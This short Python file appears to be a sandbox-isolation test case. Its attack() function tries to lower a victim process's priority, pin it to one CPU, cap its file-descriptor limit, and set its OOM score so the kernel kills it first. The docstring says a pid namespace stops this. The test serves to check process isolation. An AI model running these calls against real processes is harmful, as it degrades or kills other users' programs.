"""Slows another program down, binds it to one processor, and has it killed first.

stopped by: pid namespace
unfenced: succeeds
"""
# %%
import os
import resource


def attack():
    done = []
    tries = (
        lambda: os.setpriority(os.PRIO_PROCESS, VICTIM, 19),
        lambda: os.sched_setaffinity(VICTIM, {min(os.sched_getaffinity(VICTIM))}),
        lambda: resource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (16, 16)),
        lambda: os.write(os.open(f"/proc/{VICTIM}/oom_score_adj", os.O_WRONLY), b"1000"),
    )
    for number, attempt in enumerate(tries):
        try:
            attempt()
            done.append(number)
        except OSError:
            pass
    return done
